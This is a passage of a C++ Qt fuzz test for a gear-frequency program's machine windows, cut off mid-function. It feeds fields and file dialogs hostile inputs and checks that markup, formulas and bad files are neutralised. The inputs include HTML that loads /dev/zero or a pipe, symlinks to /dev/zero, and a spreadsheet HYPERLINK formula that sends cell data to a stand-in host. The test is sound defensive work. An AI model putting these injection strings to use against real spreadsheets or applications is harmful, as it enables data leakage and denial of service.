// A seeded monkey run over the machine windows: the menu "Агрегат" by its
// keys and items in every window, typing (hostile texts too: markup that
// would load /dev/zero or a named pipe, spreadsheet formulas, "[*]", texts of
// tens of thousands of characters, characters outside the Basic Multilingual
// Plane, lone line breaks) into the fields of the train table, the machine
// search and the main window, keys, combo boxes, copies from the tables, the
// search's result rows, and main-window work that gives the machine its
// pairs. The file dialogs get paths in the run's own folder: crafted machine
// files good and bad, links, a read-only folder; the questions and messages
// are answered by their buttons.
//
// After every action: no modal window stays open, every label of a visible
// window is plain text, every window fits the screen (the user could not
// reach what lies beyond it), a crafted file opens exactly when it is good
// and a refused one changes nothing, every file written is a machine file
// (or, for an export, a CSV whose cells run no formula), nothing is written
// outside the run's folder (a sentinel folder beside it, some of whose files
// links in the run's folder lead to) but through a link chosen in a dialog,
// no temporary file of the safe writer stays, and a copied table runs no
// formula. A hung action is reported by a watch thread.
//
//   MONKEY_SEED      seed of the run (printed at the start and on failure)
//   MONKEY_ACTIONS   number of random actions (default 600)
#include "machine/machine_file.h"
#include "machine/recovery.h"
#include "main_window_fixture.h"
#include "monkey_support.h"
#include "settings/settings_file.h"

#include <QAbstractItemView>
#include <QAction>
#include <QClipboard>
#include <QComboBox>
#include <QDirIterator>
#include <QElapsedTimer>
#include <QFileDialog>
#include <QGuiApplication>
#include <QJsonArray>
#include <QJsonDocument>
#include <QMessageBox>
#include <QRegularExpression>
#include <QScreen>
#include <QtTest>

#include <deque>
#include <map>
#include <random>

#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace uitest;

namespace {

constexpr quint32 kDefaultSeed = 16;
constexpr int kDefaultActions = 600;
constexpr int kLogLength = 15;
constexpr auto kHangLimit = std::chrono::seconds(30);
const QString kOpenError = QStringLiteral("Открытие файла агрегата");
const QString kExportTitle = QStringLiteral("Экспорт таблицы");
const QString kOpenTitle = QStringLiteral("Открыть агрегат");

bool writeBytes(const QString &path, const QByteArray &bytes) {
    QFile f(path);
    return f.open(QIODevice::WriteOnly | QIODevice::Truncate) && f.write(bytes) == bytes.size();
}

QByteArray jsonText(const QString &text) {
    return QJsonDocument(QJsonArray{text}).toJson(QJsonDocument::Compact).mid(1).chopped(1);
}

machine::MachineState baseState() {
    machine::MachineState s;
    s.document.name = QStringLiteral("Редуктор Ц2У");
    s.document.notes = QStringLiteral("Вход — двигатель 1350 об/мин");
    s.pairSlots[0] = {"13", "22,5", "35", "0"};
    s.pairSlots[1] = {"8", "8,35714285714286", "42", "0"};
    s.currentPair = 2;
    s.inputs = s.pairSlots[1];
    s.document.known = machine::ReferenceSpeed{1, "1350", machine::SpeedUnit::PerMinute};
    return s;
}

QByteArray stateBytes(const std::function<void(machine::MachineState &)> &change) {
    machine::MachineState s = baseState();
    change(s);
    return machine::machineFileBytes(s);
}

QByteArray replaced(QByteArray bytes, const QByteArray &from, const QByteArray &to) {
    return bytes.replace(from, to);
}

// A file the open command is offered, and whether the program takes it.
struct Crafted {
    QString name;
    bool opens;
    std::function<bool(const QString &path)> make;
};

QList<Crafted> craftedFiles(const QString &pipe) {
    using S = machine::MachineState;
    const auto bytes = [](QByteArray b) {
        return [b](const QString &p) { return writeBytes(p, b); };
    };
    const QByteArray good = machine::machineFileBytes(baseState());
    const auto format = [&](const QString &f) {
        return bytes(replaced(good, "\"gearfreq-machine\"", jsonText(f)));
    };
    const QString astral = monkey::outsideBmp().first();
    const QString heading = QStringLiteral("<h1 style=\"color:red\">ФАЙЛ ОТКРЫТ</h1>");
    const auto ninePairs = [](S &s) {
        s.pairSlots.fill(s.pairSlots[0]);
        s.currentPair = 9;
    };
    return {
        {"good.json", true, bytes(good)},
        {"compact.json", true, bytes(QJsonDocument::fromJson(good).toJson(QJsonDocument::Compact))},
        {"markup.json", true, bytes(stateBytes([&](S &s) {
             s.document.name = heading;
             s.document.notes = "<img src=/dev/zero>\n<img src=" + pipe + ">";
             s.document.known.text = QStringLiteral("<img src=files/pipe.json>");
         }))},
        {"formulas.json", true, bytes(stateBytes([](S &s) {
             s.pairSlots[0].z1 = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")");
             s.inputs = {"=1+1", "@SUM(A1)", "-2+3", "\t=1"};
         }))},
        {"nine-pairs.json", true, bytes(stateBytes(ninePairs))},
        {"astral-at-50.json", true,
         bytes(stateBytes([&](S &s) { s.pairSlots[0].fm = QString(49, u'1') + astral; }))},
        {"notes-20000.json", true,
         bytes(stateBytes([](S &s) { s.document.notes = QString(machine::kNotesLimit, u'ж'); }))},
        {"not-json.json", false, bytes("это не JSON, а {текст")},
        {"nul-bytes.json", false, bytes(replaced(good, "Ц2У", QByteArray("Ц\0У", 4)))},
        {"bad-utf8.json", false, bytes(replaced(good, "Ц2У", "\xff\xfe\xc0"))},
        {"format-zero.json", false, format("<img src=/dev/zero>")},
        {"format-pipe.json", false, format("<img src=" + pipe + ">")},
        {"format-heading.json", false, format(heading)},
        {"version-3.json", false, bytes(replaced(good, "\"version\": 1", "\"version\": 3"))},
        {"ten-pairs.json", false,
         bytes(replaced(
             stateBytes(ninePairs), "\n  ],",
             ",\n    {\"Z1\": \"1\", \"Fr1\": \"1\", \"Z2\": \"2\", \"Fm\": \"0\"}\n  ],"))},
        {"text-51.json", false,
         bytes(stateBytes([](S &s) { s.pairSlots[0].z2 = QString(51, u'2'); }))},
        {"astral-at-51.json", false,
         bytes(stateBytes([&](S &s) { s.pairSlots[0].fm = QString(50, u'1') + astral; }))},
        {"notes-20001.json", false, bytes(stateBytes([](S &s) {
             s.document.notes = QString(machine::kNotesLimit + 1, u'ж');
         }))},
        {"empty.json", false, bytes({})},
        {"sparse-100mb.json", false,
         [](const QString &p) {
             QFile f(p);
             return f.open(QIODevice::WriteOnly) && f.resize(100LL * 1024 * 1024);
         }},
        {"folder.json", false, [](const QString &p) { return QDir().mkdir(p); }},
        {"pipe.json", false,
         [](const QString &p) { return ::mkfifo(QFile::encodeName(p).constData(), 0600) == 0; }},
        {"loop.json", false, [](const QString &p) { return QFile::link("loop.json", p); }},
        {"zero.json", false, [](const QString &p) { return QFile::link("/dev/zero", p); }},
    };
}

QStringList hostileTexts(const QString &pipe) {
    const QStringList astral = monkey::outsideBmp();
    QStringList texts = {"<img src=/dev/zero>",
                         "<img src=" + pipe + ">",
                         "=1+1",
                         "@SUM(A1)",
                         "-2+3",
                         "[*]",
                         "\n",
                         "\r\n",
                         "\t=1",
                         astral.join(QString())};
    return texts << QStringLiteral("<h1 style=\"color:red\">ФАЙЛ ОТКРЫТ</h1>")
                 << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")")
                 << "1" + astral.first() << QString(30000, u'ж')
                 << QStringLiteral("<b>=</b>").repeated(5000);
}

// A cell that a spreadsheet would run: it begins like a formula and is no
// plain number (a leading apostrophe makes it text).
bool runsAsFormula(const QString &cell) {
    static const QString starts = QStringLiteral("=+-@\t\r");
    static const QRegularExpression number(
        QStringLiteral("\\A[+-]?[0-9]+([.,][0-9]+)?([eE][+-]?[0-9]+)?\\z"));
    return !cell.isEmpty() && starts.contains(cell.front()) && !number.match(cell).hasMatch();
}

// The cells of an exported table: ";" between cells, CR LF between lines,
// quotes around a cell with "" for a quote inside.
QStringList csvCells(QString text) {
    if (text.startsWith(QChar(0xFEFF)))
        text.remove(0, 1);
    QStringList cells;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted && c == u'"' && text.mid(i + 1, 1) == QLatin1String("\"")) {
            cell += c;
            ++i;
        } else if (c == u'"') {
            quoted = !quoted;
        } else if (!quoted && (c == u';' || c == u'\n')) {
            cells << cell;
            cell.clear();
        } else if (quoted || c != u'\r' || text.mid(i + 1, 1) != QLatin1String("\n")) {
            cell += c;
        }
    }
    return cells << cell;
}

QStringList tabCells(const QString &text) {
    QStringList cells;
    for (const QString &line : text.split(u'\n'))
        cells << line.split(u'\t');
    return cells;
}

QString formulaIn(const QStringList &cells) {
    const auto it = std::find_if(cells.begin(), cells.end(), runsAsFormula);
    return it == cells.end() ? QString() : *it;
}

// Every entry under the roots, links not followed: its kind (lstat's file
// type) and a signature that changes whenever it is written or replaced.
struct Entry {
    mode_t type = 0;
    QString signature;
    bool operator==(const Entry &) const = default;
};
using Tree = std::map<QString, Entry>;

Tree scanTree(const QStringList &roots) {
    Tree tree;
    for (const QString &root : roots) {
        QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                        QDirIterator::Subdirectories);
        while (it.hasNext()) {
            const QString path = it.next();
            struct stat st;
            if (::lstat(QFile::encodeName(path).constData(), &st) == 0)
                tree[path] = {st.st_mode & S_IFMT,
                              QString::asprintf("%lld %lld.%09ld %llu ", (long long)st.st_size,
                                                (long long)st.st_mtim.tv_sec, st.st_mtim.tv_nsec,
                                                (unsigned long long)st.st_ino) +
                                  QFileInfo(path).symLinkTarget()};
        }
    }
    return tree;
}

QString shortened(const QString &text) {
    QString s = text.left(80);
    s.replace(u'\n', QStringLiteral("\\n")).replace(u'\r', QStringLiteral("\\r"));
    return text.size() > 80 ? QStringLiteral("%1…(%2 characters)").arg(s).arg(text.size()) : s;
}

struct Action {
    QString text;
    std::function<void()> run;
    bool tableCopy = false;
};

// A path typed into a file dialog: the dialog's title, and whether it took it.
struct Chosen {
    QString title;
    QString path;
    bool taken = false;
};

// The machine windows and their fields by objectName, as the user meets them.
const QMap<QString, QStringList> &machineFields() {
    static const QMap<QString, QStringList> fields = {
        {"TrainWindow",
         {"nameEdit", "notesEdit", "speedEdit", "unitBox", "ordersShaftBox", "referenceShaftBox",
          "speedUnitBox", "writeButton", "pairsView", "shaftsView"}},
        {"MachineSearchWindow",
         {"frequencyEdit", "toleranceEdit", "unitBox", "ordersShaftBox", "toleranceUnitBox",
          "maxHarmonicBox", "stepBox", "maxSidebandBox", "peakMode", "spacingMode", "searchButton",
          "resultView"}}};
    return fields;
}

} // namespace

class MachineMonkeyTest : public QObject, protected MainWindowFixture {
    Q_OBJECT

private:
    quint32 seed = kDefaultSeed;
    std::mt19937 rng;
    int actionNumber = 0;
    std::deque<QString> log;
    QString failure;

    QString work;
    std::optional<QTemporaryDir> sentinel; // the folder beside the run's own
    QString outside;                       // its canonical path
    bool mounted = false;
    QString readOnlyNote;
    QStringList openPaths, savePaths, hostile;
    QList<QLineEdit *> mainEdits;
    std::map<QString, bool> opens; // canonical path: the program takes the file
    QSet<QString> reachedOutside;  // sentinel files chosen through a link
    QStringList written;           // files of the run's folder the program wrote
    Tree lastTree;

    // The current action's dialogs and answers.
    QList<Chosen> chosen;
    QStringList answers;
    QMap<QString, int> counts; // what the run got to do, for the summary
    qint64 slowestMs = 0;
    QString slowest;

    // --- random choices
    int uniform(int lo, int hi) { return std::uniform_int_distribution<int>(lo, hi)(rng); }
    bool chance(int percent) { return uniform(0, 99) < percent; }
    template <typename T> T pick(const QList<T> &items) {
        return items.at(uniform(0, int(items.size()) - 1));
    }
    QString number() {
        switch (uniform(0, 3)) {
        case 0:
            return QString::number(uniform(8, 120));
        case 1:
            return QStringLiteral("%1,%2").arg(uniform(1, 60)).arg(uniform(0, 99));
        case 2:
            return QString::number(uniform(100, 3000));
        default:
            return pick<QString>({"0", "1", "5", "", "абв", "1e3", "-4"});
        }
    }
    QString someText() { return chance(35) ? pick(hostile) : number(); }

    // --- the windows
    QWidget *window(const QString &name) const {
        return name == QLatin1String("TForm1") ? form.get() : form->findChild<QWidget *>(name);
    }
    QList<QWidget *> shownWindows() const {
        QList<QWidget *> list;
        for (const QString name : {"TForm1", "TrainWindow", "MachineSearchWindow"})
            if (QWidget *w = window(name); w && w->isVisible())
                list << w;
        return list;
    }
    static void bringUp(QWidget *w) {
        w->raise();
        w->activateWindow();
        (void)QTest::qWaitFor([w] { return w->isActiveWindow(); }, 200);
    }
    QWidget *keyTarget() const {
        if (QWidget *focus = QApplication::focusWidget())
            return focus;
        return QApplication::activeWindow() ? QApplication::activeWindow() : form.get();
    }
    static QString nameOf(QWidget *w) {
        return w->window()->objectName() + QLatin1Char('/') + w->objectName();
    }
    // The fields of the machine windows that are up, of one kind.
    template <typename Kind = QWidget> QList<QWidget *> machineWidgets() const {
        QList<QWidget *> found;
        for (auto it = machineFields().cbegin(); it != machineFields().cend(); ++it)
            if (QWidget *w = window(it.key()); w && w->isVisible())
                for (const QString &name : it.value())
                    if (auto *widget = w->findChild<Kind *>(name))
                        found << widget;
        return found;
    }
    // Mostly a machine window's field or a pair's input; now and then any
    // other edit of the main window, whose nonsense stops the calculations.
    QWidget *randomField() {
        if (chance(8))
            return pick(mainEdits);
        return pick(machineWidgets() +
                    QList<QWidget *>{form->Edit1, form->Edit2, form->Edit3, form->Edit4});
    }

    // --- the actions
    static Action keyAction(QWidget *target, const QKeySequence &key) {
        const QKeyCombination k = key[0];
        const bool copy =
            key == QKeySequence(QKeySequence::Copy) && qobject_cast<QAbstractItemView *>(target);
        return {QStringLiteral("%1 in %2").arg(key.toString(), nameOf(target)),
                [target = QPointer<QWidget>(target), k] {
                    if (target)
                        QTest::keyClick(target, k.key(), k.keyboardModifiers());
                },
                copy};
    }
    Action machineKey() {
        // Ctrl+O the most, so that every crafted file gets its turn.
        return keyAction(keyTarget(),
                         QKeySequence(pick<QString>({"F9", "F7", "Ctrl+O", "Ctrl+O", "Ctrl+O",
                                                     "Ctrl+S", "Ctrl+Shift+S"})));
    }
    Action menuItem() {
        const QString name =
            pick<QString>({"machineTable", "machineSearch", "machineOpen", "machineSave",
                           "machineSaveAs", "machineExport", "machineExport", "machineCopy"});
        QAction *item = form->findChild<QAction *>(name);
        return {"item " + name, [item] { item->trigger(); }, name == "machineCopy"};
    }
    Action pressKey() {
        static const QStringList keys = {
            "Return", "Enter", "Esc",    "Tab",   "Backtab",   "Up",  "Down",   "Left",   "Right",
            "Home",   "End",   "PgDown", "Space", "Backspace", "Del", "Ctrl+A", "Ctrl+C", "Ctrl+V"};
        return keyAction(keyTarget(), QKeySequence(pick(keys)));
    }
    Action switchWindow() {
        QWidget *w = pick(shownWindows());
        return {"to window " + w->objectName(), [w] { bringUp(w); }};
    }
    Action focusField() {
        QWidget *w = randomField();
        return {"focus " + nameOf(w), [w] {
                    bringUp(w->window());
                    w->setFocus(Qt::MouseFocusReason);
                }};
    }
    // Short texts typed key by key, long ones and line breaks pasted.
    static bool pasted(const QString &text) {
        return text.size() > 40 || text.contains(u'\n') || text.contains(u'\r');
    }
    static void enter(QWidget *w, const QString &text, bool paste, bool replace) {
        w->setFocus(Qt::MouseFocusReason);
        if (replace)
            QTest::keySequence(w, QKeySequence::SelectAll);
        if (paste) {
            QApplication::clipboard()->setText(text);
            QTest::keySequence(w, QKeySequence::Paste);
        } else {
            monkey::typeKeys(w, text);
        }
    }
    // A field's old text replaced or added to.
    Action typeText() {
        QWidget *w = randomField();
        const QString text = someText();
        const bool paste = pasted(text) || chance(20);
        const bool replace = chance(60);
        return {QStringLiteral("%1 \"%2\" into %3")
                    .arg(paste ? "paste" : "type", shortened(text), nameOf(w)),
                [w, text, paste, replace] {
                    bringUp(w->window());
                    enter(w, text, paste, replace);
                }};
    }
    Action changeCombo() {
        const QList<QWidget *> boxes = machineWidgets<QComboBox>();
        if (boxes.isEmpty())
            return menuItem();
        QWidget *box = pick(boxes);
        const Qt::Key key =
            pick<Qt::Key>({Qt::Key_Up, Qt::Key_Down, Qt::Key_Home, Qt::Key_End, Qt::Key_PageDown});
        return {QStringLiteral("key %1 on %2").arg(QKeySequence(key).toString(), nameOf(box)),
                [box, key] {
                    bringUp(box->window());
                    box->setFocus(Qt::MouseFocusReason);
                    QTest::keyClick(box, key);
                }};
    }
    // Clicks a cell, shift-clicks another or selects all, then Ctrl+C.
    Action copyCells() {
        QWidget *train = window("TrainWindow");
        if (!train || !train->isVisible())
            return menuItem();
        auto *view = train->findChild<QAbstractItemView *>(chance(50) ? "pairsView" : "shaftsView");
        const QAbstractItemModel *m = view->model();
        const auto cell = [&] {
            return m->index(uniform(0, m->rowCount() - 1), uniform(0, m->columnCount() - 1));
        };
        if (m->rowCount() == 0)
            return keyAction(view, QKeySequence::Copy);
        const QModelIndex from = cell(), to = cell();
        const int how = uniform(0, 2); // the cell alone, up to another, all
        const auto name = [](const QModelIndex &i) {
            return QString::asprintf("%d,%d", i.row(), i.column());
        };
        return {QStringLiteral("copy from %1: %2 %3 %4")
                    .arg(view->objectName(), name(from),
                         QStringList{"alone", "to", "and all"}.at(how), name(to)),
                [view, from = view->visualRect(from).center(), to = view->visualRect(to).center(),
                 how] {
                    bringUp(view->window());
                    QTest::mouseClick(view->viewport(), Qt::LeftButton, {}, from);
                    if (how == 1)
                        QTest::mouseClick(view->viewport(), Qt::LeftButton, Qt::ShiftModifier, to);
                    if (how == 2)
                        QTest::keySequence(view, QKeySequence::SelectAll);
                    QTest::keySequence(view, QKeySequence::Copy);
                },
                true};
    }
    // A frequency the table shows (or any number), searched by Return or the button.
    Action search() {
        QWidget *w = window("MachineSearchWindow");
        if (!w || !w->isVisible())
            return keyAction(keyTarget(), Qt::Key_F7);
        QString frequency = number();
        if (QWidget *train = window("TrainWindow"); train && chance(70)) {
            const QAbstractItemModel *m =
                train->findChild<QAbstractItemView *>(QStringLiteral("shaftsView"))->model();
            if (m->rowCount() > 0)
                frequency =
                    m->index(uniform(0, m->rowCount() - 1), uniform(1, m->columnCount() - 1))
                        .data()
                        .toString();
        }
        const bool byReturn = chance(50);
        return {QStringLiteral("search \"%1\" by %2")
                    .arg(shortened(frequency), byReturn ? "Return" : "button"),
                [w, frequency, byReturn] {
                    bringUp(w);
                    auto *edit = w->findChild<QLineEdit *>(QStringLiteral("frequencyEdit"));
                    edit->setFocus(Qt::MouseFocusReason);
                    QTest::keySequence(edit, QKeySequence::SelectAll);
                    monkey::typeKeys(edit, frequency);
                    if (byReturn)
                        QTest::keyClick(edit, Qt::Key_Return);
                    else
                        QTest::mouseClick(w->findChild<QWidget *>(QStringLiteral("searchButton")),
                                          Qt::LeftButton);
                }};
    }
    // A result row chosen by Return or a double click.
    Action chooseResult() {
        QWidget *w = window("MachineSearchWindow");
        auto *view = w ? w->findChild<QAbstractItemView *>(QStringLiteral("resultView")) : nullptr;
        if (!view || !w->isVisible() || view->model()->rowCount() == 0)
            return search();
        const int row = uniform(0, view->model()->rowCount() - 1);
        const bool byReturn = chance(50);
        return {QStringLiteral("result row %1 by %2")
                    .arg(row)
                    .arg(byReturn ? "Return" : "double click"),
                [view, row, byReturn] {
                    bringUp(view->window());
                    const QPoint at = view->visualRect(view->model()->index(row, 0)).center();
                    QTest::mouseClick(view->viewport(), Qt::LeftButton, {}, at);
                    if (byReturn)
                        QTest::keyClick(view, Qt::Key_Return);
                    else
                        QTest::mouseDClick(view->viewport(), Qt::LeftButton, {}, at);
                }};
    }
    Action clickButton() {
        QList<QWidget *> buttons = machineWidgets<QAbstractButton>();
        buttons << form->SpeedButton31 << form->SpeedButton32 << form->SpeedButton33
                << form->SpeedButton1;
        QWidget *b = pick(buttons);
        return {"click " + nameOf(b), [b] { QTest::mouseClick(b, Qt::LeftButton); }};
    }
    // Z1, Fr1, Z2 and Fm typed into the main window, then "ВЫЧИСЛИТЬ".
    Action enterPair() {
        const QStringList texts = {QString::number(uniform(8, 60)),
                                   QStringLiteral("%1,%2").arg(uniform(1, 50)).arg(uniform(0, 9)),
                                   QString::number(uniform(20, 120)),
                                   chance(80) ? QStringLiteral("0") : someText()};
        return {"pair " + shortened(texts.join(u'|')), [this, texts] {
                    bringUp(form.get());
                    const QList<QLineEdit *> edits = {form->Edit1, form->Edit2, form->Edit3,
                                                      form->Edit4};
                    for (int i = 0; i < 4; ++i)
                        enter(edits[i], texts[i], pasted(texts[i]), true);
                    QTest::mouseClick(form->SpeedButton1, Qt::LeftButton);
                }};
    }
    Action precision() {
        QAction *item =
            pick<QAction *>({form->N0001, form->N00001, form->N000001, form->N0000001, form->N32});
        return {"precision " + item->objectName(), [item] { item->trigger(); }};
    }
    Action closeWindow() {
        QList<QWidget *> windows = shownWindows();
        windows.removeOne(form.get());
        if (windows.isEmpty())
            return machineKey();
        QWidget *w = pick(windows);
        return {"close " + w->objectName(), [w] { w->close(); }};
    }

    // Another program saves a file this one wrote: a save of the file open
    // here asks before it replaces that change.
    Action otherProgram() {
        if (written.isEmpty())
            return machineKey();
        // The file written last is most often the one open here.
        const QString path = chance(50) ? written.last() : pick(written);
        return {"another program saves " + path.mid(work.size() + 1), [this, path] {
                    const QByteArray bytes = stateBytes([](machine::MachineState &s) {
                        s.document.notes = QStringLiteral("другая");
                    });
                    if (writeBytes(path, bytes))
                        opens[QFileInfo(path).canonicalFilePath()] = true;
                    lastTree = scanTree({work, outside});
                }};
    }

    Action nextAction() {
        using Plan = Action (MachineMonkeyTest::*)();
        // Weights in percent.
        static const std::pair<int, Plan> plans[] = {
            {16, &MachineMonkeyTest::machineKey},  //
            {5, &MachineMonkeyTest::menuItem},     //
            {10, &MachineMonkeyTest::pressKey},    //
            {5, &MachineMonkeyTest::switchWindow}, //
            {6, &MachineMonkeyTest::focusField},   //
            {16, &MachineMonkeyTest::typeText},    //
            {5, &MachineMonkeyTest::changeCombo},  //
            {5, &MachineMonkeyTest::copyCells},    //
            {5, &MachineMonkeyTest::search},       //
            {5, &MachineMonkeyTest::chooseResult}, //
            {6, &MachineMonkeyTest::clickButton},  //
            {9, &MachineMonkeyTest::enterPair},    //
            {3, &MachineMonkeyTest::precision},    //
            {2, &MachineMonkeyTest::closeWindow},  //
            {2, &MachineMonkeyTest::otherProgram},
        };
        int roll = uniform(0, 99);
        for (const auto &[weight, plan] : plans) {
            if (roll < weight)
                return (this->*plan)();
            roll -= weight;
        }
        return machineKey(); // not reached while the weights make 100
    }

    // --- the answers to modal windows
    void answer(QWidget *modal) {
        if (auto *dialog = qobject_cast<QFileDialog *>(modal))
            return answerFileDialog(dialog);
        static const QMap<QString, QStringList> buttons = {
            {"machineConfirmOpen", {"openButton", "cancelButton"}},
            {"machineConfirmReplace", {"replaceButton", "cancelButton"}},
            {"machineFolderRefused", {"saveAsButton", "cancelButton"}},
            {"TForm7", {"Button1", "Button2"}},
        };
        const QString name = modal->objectName();
        // The program's questions: mostly go ahead, so that the commands run.
        QString button;
        if (buttons.contains(name))
            button = buttons[name].at(chance(70) ? 0 : 1);
        // A message box of the program or of Qt: any of its buttons.
        if (auto *box = qobject_cast<QMessageBox *>(modal);
            box && button.isEmpty() && !box->buttons().isEmpty()) {
            QAbstractButton *b = pick(box->buttons());
            answers << b->text();
            b->click();
            return;
        }
        answers << (button.isEmpty() ? QStringLiteral("its button") : button);
        pressButton(button)(modal);
    }
    // A path of the run's folder typed into the dialog, or "Отмена"; a path
    // the dialog does not take (a folder, a missing file) ends in "Отмена" too.
    void answerFileDialog(QFileDialog *dialog) {
        if (chance(12)) {
            answers << QStringLiteral("cancel");
            dialog->reject();
            return;
        }
        const bool open = dialog->acceptMode() == QFileDialog::AcceptOpen;
        const QString path = QDir(work).filePath(pick(open ? openPaths : savePaths));
        answers << path.mid(work.size() + 1);
        choosing(path)(dialog);
        const bool taken = !dialog->isVisible();
        if (!taken) {
            answers << QStringLiteral("cancel");
            dialog->reject();
        }
        chosen << Chosen{dialog->windowTitle(), path, taken};
        const QString real = QFileInfo(path).canonicalFilePath();
        if (taken && real.startsWith(outside + QLatin1Char('/')))
            reachedOutside << real;
    }

    // --- the checks
    bool fail(const QString &what) {
        if (failure.isEmpty())
            failure = what;
        return false;
    }
    QByteArray report() const {
        QString s = QStringLiteral("MONKEY_SEED=%1, action %2\nlast actions:\n")
                        .arg(seed)
                        .arg(actionNumber);
        for (const QString &line : log)
            s += QStringLiteral("  ") + line + QLatin1Char('\n');
        return s.toUtf8();
    }

    // What a refused file must leave as it was.
    QStringList documentShown() const {
        QStringList texts;
        for (QLineEdit *e : {form->Edit1, form->Edit2, form->Edit3, form->Edit4})
            texts << e->text();
        if (QWidget *train = window("TrainWindow"))
            for (const char *name : {"nameEdit", "speedEdit"})
                texts << train->findChild<QLineEdit *>(QLatin1String(name))->text();
        return texts;
    }

    // No modal window stays open or needs more than its button; every
    // label reads its text as plain text; every window fits the screen, as
    // the user could not reach what lies beyond it.
    void checkWindows(const QList<ModalSeen> &seen) {
        if (QApplication::activeModalWidget())
            fail("a modal window stayed open: " + QApplication::activeModalWidget()->objectName());
        const QSize screen = QGuiApplication::primaryScreen()->availableSize();
        const auto fits = [screen](QSize size) {
            return size.width() <= screen.width() && size.height() <= screen.height();
        };
        for (const ModalSeen &s : seen) {
            ++counts[s.objectName.isEmpty() ? "message " + s.title : s.objectName];
            if (s.closedByFallback)
                fail(describe(s) + " did not close by its button");
            if (!s.markupLabels.isEmpty())
                fail("a text shown as markup in " + describe(s));
            if (!fits(s.frame.size()))
                fail(describe(s) + " is larger than the screen");
        }
        for (QWidget *top : QApplication::topLevelWidgets()) {
            if (!top->isVisible() || qobject_cast<QFileDialog *>(top))
                continue;
            if (!fits(top->size()))
                fail(QStringLiteral("%1 grew to %2 x %3 pixels, larger than the screen; %4")
                         .arg(top->objectName())
                         .arg(top->width())
                         .arg(top->height())
                         .arg(widestLabel(top)));
            for (QLabel *label : ownLabels(top))
                if (label->textFormat() != Qt::PlainText)
                    fail(
                        QStringLiteral("label %1 of %2 may show markup: %3")
                            .arg(label->objectName(), top->objectName(), shortened(label->text())));
        }
    }

    // The labels of a window, not of the windows it owns.
    static QList<QLabel *> ownLabels(QWidget *top) {
        QList<QLabel *> labels = top->findChildren<QLabel *>();
        labels.removeIf([top](QLabel *label) { return label->window() != top; });
        return labels;
    }
    // The label that asks for the most width, for the report.
    static QString widestLabel(QWidget *top) {
        const QList<QLabel *> labels = ownLabels(top);
        const auto widest = std::max_element(labels.begin(), labels.end(), [](auto *a, auto *b) {
            return a->minimumSizeHint().width() < b->minimumSizeHint().width();
        });
        if (widest == labels.end())
            return {};
        return QStringLiteral("its widest label %1 asks for %2 pixels: \"%3\"")
            .arg((*widest)->objectName())
            .arg((*widest)->minimumSizeHint().width())
            .arg(shortened((*widest)->text()));
    }

    // A crafted or saved file opens exactly when it is good; a refused one changes nothing.
    void checkOpened(const QList<ModalSeen> &seen, const QStringList &before) {
        const auto it = std::find_if(chosen.rbegin(), chosen.rend(), [](const Chosen &c) {
            return c.taken && c.title == kOpenTitle;
        });
        if (it == chosen.rend())
            return;
        const auto known = opens.find(QFileInfo(it->path).canonicalFilePath());
        const bool good = known != opens.end() && known->second;
        const bool refused = std::any_of(seen.begin(), seen.end(), [](const ModalSeen &s) {
            return s.objectName.isEmpty() && s.title == kOpenError;
        });
        ++counts[good ? "opened a good file" : "refused a bad file"];
        if (good == refused)
            fail(QStringLiteral("%1 was %2").arg(it->path, refused ? "refused" : "taken"));
        if (refused && documentShown() != before)
            fail(it->path + " was refused but changed what the windows show");
    }

    // Every file that changed was written by a save (a machine file) or an
    // export (a table running no formula); outside the run's folder only a
    // file chosen through a link; no temporary file stays behind.
    void checkFiles() {
        const Tree now = scanTree({work, outside});
        const bool exported = std::any_of(chosen.begin(), chosen.end(), [](const Chosen &c) {
            return c.taken && c.title == kExportTitle;
        });
        const QString settingsFile = QDir(work).filePath(QLatin1String(settings::kFileName));
        for (const auto &[path, entry] : now) {
            const auto before = lastTree.find(path);
            if (before != lastTree.end() &&
                (before->second == entry || (S_ISDIR(entry.type) && S_ISDIR(before->second.type))))
                continue;
            if (path == settingsFile)
                continue;
            // The user's folders of the program (the fixture puts them in the
            // run's folder): the recovery files go there.
            if (path.startsWith(work + QStringLiteral("/XDG_"))) {
                checkOwnFile(path, entry);
                continue;
            }
            const bool isOutside = path.startsWith(outside + QLatin1Char('/'));
            if (QFileInfo(path).fileName().startsWith(QLatin1String(".~gf")))
                fail("a temporary file stayed: " + path);
            else if (isOutside && !reachedOutside.contains(path))
                fail("a file outside the run's folder was written: " + path);
            else if (!S_ISREG(entry.type) ||
                     (before != lastTree.end() && before->second.type != entry.type))
                fail(path + " was replaced by something else than a file");
            else
                checkWritten(path, exported);
        }
        for (const auto &[path, entry] : lastTree)
            if (!now.count(path) && !QFileInfo(path).fileName().startsWith(QLatin1String(".~gf")) &&
                !path.startsWith(work + QStringLiteral("/XDG_")))
                fail(path + " disappeared");
        lastTree = now;
    }
    void checkOwnFile(const QString &path, const Entry &entry) {
        if (S_ISDIR(entry.type))
            return;
        if (!S_ISREG(entry.type))
            fail(path + " is no file");
        else if (QFileInfo(path).fileName().startsWith(QLatin1String("recovery-")) &&
                 !machine::parseRecovery(fileBytes(path)).recovery)
            fail("a recovery file that cannot be read: " + path);
    }
    void checkWritten(const QString &path, bool exported) {
        ++counts[exported ? "files exported" : "files saved"];
        const QByteArray bytes = fileBytes(path);
        if (exported) {
            if (const QString cell = formulaIn(csvCells(QString::fromUtf8(bytes))); !cell.isNull())
                fail(QStringLiteral("%1 holds the formula cell \"%2\"").arg(path, shortened(cell)));
        } else if (const auto read = machine::parseMachineFile(bytes, path); !read.state) {
            fail(QStringLiteral("a save left %1 no machine file: %2").arg(path, read.error));
        }
        opens[QFileInfo(path).canonicalFilePath()] = !exported;
        if (!path.startsWith(outside + QLatin1Char('/'))) {
            written.removeOne(path);
            written << path;
        }
    }
    void checkClipboard() {
        ++counts["table copies"];
        if (const QString cell = formulaIn(tabCells(QApplication::clipboard()->text()));
            !cell.isNull())
            fail(QStringLiteral("the copied table holds the formula cell \"%1\"")
                     .arg(shortened(cell)));
    }

    bool step(const Action &a, monkey::HangWatch &watch) {
        chosen.clear();
        answers.clear();
        log.push_back(QStringLiteral("#%1 %2").arg(actionNumber).arg(a.text));
        if (log.size() > std::size_t(kLogLength))
            log.pop_front();
